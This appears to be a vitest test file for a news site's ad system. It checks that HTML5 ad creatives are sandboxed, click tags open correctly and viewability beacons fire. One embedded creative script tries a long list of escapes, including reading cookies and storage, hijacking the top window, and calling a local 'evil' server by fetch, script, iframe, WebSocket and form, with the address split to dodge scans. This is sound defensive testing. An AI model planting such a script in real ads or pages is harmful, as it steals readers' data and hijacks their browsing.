import { createServer, type Server } from 'node:http'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { TestBrowser } from '../support/browser.ts'
import { article, campaign, packCreative, publishNewsroom } from '../support/fixture.ts'
import { TestSite } from '../support/site.ts'

/** An HTML5 creative that tries to leave its sandbox. What it would reach is a server that counts who comes. */

let site: TestSite
let browser: TestBrowser
let evil: Server
let evilUrl: string
let reached: string[]

/** Every way out that a page knows, spelled so that no scan of the archive finds the address. */
const attack = (host: string) => `
const evil = 'http:' + '/' + '/' + ${JSON.stringify(host)}
const done = {}
const attempt = (name, act) => { try { const value = act(); done[name] = String(value) } catch (error) { done[name] = 'refused: ' + error.name } }
attempt('cookie', () => document.cookie)
attempt('storage', () => localStorage.length)
attempt('parent', () => parent.document.title)
attempt('top', () => { top.location.href = evil + '/top' })
attempt('fetch', () => { fetch(evil + '/fetch').catch(() => {}) })
attempt('beacon', () => navigator.sendBeacon(evil + '/beacon'))
attempt('image', () => { new Image().src = evil + '/image' })
attempt('style', () => { const link = document.createElement('link'); link.rel = 'stylesheet'; link.href = evil + '/style'; document.head.append(link) })
attempt('script', () => { const script = document.createElement('script'); script.src = evil + '/script'; document.head.append(script) })
attempt('frame', () => { const frame = document.createElement('iframe'); frame.src = evil + '/frame'; document.body.append(frame) })
attempt('prefetch', () => { const link = document.createElement('link'); link.rel = 'prefetch'; link.href = evil + '/prefetch'; document.head.append(link) })
attempt('form', () => { const form = document.createElement('form'); form.action = evil + '/form'; document.body.append(form); form.submit() })
attempt('socket', () => { new WebSocket(evil.replace('http', 'ws') + '/socket') })
attempt('worker', () => { new Worker(evil + '/worker') })
attempt('dialog', () => alert('Gewonnen'))
attempt('site', () => { fetch('/api/articles').catch(() => {}) })
document.body.dataset.done = JSON.stringify(done)
document.body.onclick = () => { location.href = evil + '/itself' }
`

beforeAll(async () => {
  reached = []
  evil = createServer((request, response) => {
    reached.push(request.url ?? '')
    response.end('<h1>Böse</h1>')
  }).listen(0, '127.0.0.1')
  ;[site, browser] = await Promise.all([TestSite.open(), TestBrowser.launch()])
  const address = evil.address()
  if (address === null || typeof address === 'string') throw new Error('no port')
  evilUrl = `http://127.0.0.1:${address.port}`
  await publishNewsroom(site, article('artikel'), article('technik', { section: 'technik' }))
  await site.api('DELETE', 'ads/nordlicht')
  await site.api('DELETE', 'ads/suedwind')
  await site.putPicture(
    'angriff.zip',
    packCreative({
      'index.html':
        '<!doctype html><html lang="de"><head><title>Spiel</title></head><body><p>Spiel</p><script src="angriff.js"></script></body></html>',
      'angriff.js': attack(`127.0.0.1:${address.port}`),
    }),
  )
  await site.putPicture(
    'spiel.zip',
    packCreative({
      'index.html':
        '<!doctype html><html lang="de"><head><title>Spiel</title><script>var clickTag = "https://kunde.example/";</script></head><body><button onclick="window.open(window.clickTag)">Los</button></body></html>',
    }),
  )
  const html5 = (file: string) => ({
    kind: 'html5',
    size: '300x250',
    file,
    alt: 'Ein Spiel',
    url: '/impressum/',
  })
  await site.publish(
    'ads',
    campaign('angriff', { target: { sections: ['wirtschaft'] }, creatives: [html5('angriff.zip')] }),
    campaign('spiel', { target: { sections: ['technik'] }, creatives: [html5('spiel.zip')] }),
  )
})
afterAll(async () => {
  evil?.close()
  await Promise.all([site?.close(), browser?.close()])
})

describe('an HTML5 creative', () => {
  test('is viewable when its frame was in view, not the link below it', async () => {
    await browser.visit(site, { size: 'phone' }, async (page, visit) => {
      const isBeacon = (address: string) => new URL(address).pathname === '/go/spiel/seen'
      await page.goto(visit.url('/technik/'), { waitUntil: 'networkidle' })
      await page.locator('.ad-link').evaluate(async (link) => {
        link.scrollIntoView()
        await new Promise((resolve) => setTimeout(resolve, 1500))
      })
      const bottom = await page
        .locator('.ad iframe')
        .evaluate((frame) => frame.getBoundingClientRect().bottom)
      // Its lower margin may be in view still.
      expect(bottom).toBeLessThan(50)
      expect(visit.asked.filter(isBeacon)).toEqual([])
      const beacon = page.waitForResponse((response) => isBeacon(response.url()))
      await page.locator('.ad iframe').evaluate((frame) => frame.scrollIntoView())
      expect((await beacon).status()).toBe(204)
    })
  })

  test('that tries every way out reaches nobody, reads nothing, and leaves the page as it is', async () => {
    await browser.visit(site, { isAttacked: true, mayVisit: [evilUrl] }, async (page, visit) => {
      await page.goto(visit.url('/artikel/'))
      await page.locator('.ad iframe').scrollIntoViewIfNeeded()
      const inside = page.frameLocator('.ad iframe')
      await expect
        .poll(() => inside.locator('body').getAttribute('data-done'), { timeout: 20_000 })
        .not.toBeNull()
      const done: unknown = JSON.parse((await inside.locator('body').getAttribute('data-done')) ?? '{}')
      expect(done).toMatchObject({
        cookie: 'refused: SecurityError',
        storage: 'refused: SecurityError',
        parent: 'refused: SecurityError',
        top: 'refused: SecurityError',
      })
      // At last it tries to go away by itself.
      await inside.locator('p').click()
      const then = await page.evaluate(() => performance.now())
      await page.waitForFunction((since) => performance.now() > since + 1500, then)
      expect(page.url()).toBe(visit.url('/artikel/'))
      await page.getByRole('heading', { level: 1 }).waitFor()
    })
    expect(reached).toEqual([])
  })

  test('leads by its click tag to the campaign’s own address, in a window of its own', async () => {
    await browser.visit(site, {}, async (page, visit) => {
      await page.goto(visit.url('/technik/'))
      await page.locator('.ad iframe').scrollIntoViewIfNeeded()
      const opened = visit.context.waitForEvent('page')
      await page.frameLocator('.ad iframe').getByRole('button', { name: 'Los' }).click()
      const other = await opened
      await other.waitForURL(visit.url('/impressum/'))
      expect(page.url()).toBe(visit.url('/technik/'))
    })
  })

  test('has a link below it that works without JavaScript', async () => {
    await browser.visit(site, { scripts: false, size: 'phone' }, async (page, visit) => {
      await page.goto(visit.url('/technik/'))
      await page.getByRole('link', { name: 'Weiter zu Kontor Nordlicht' }).click()
      await page.waitForURL(visit.url('/impressum/'))
    })
  })
})
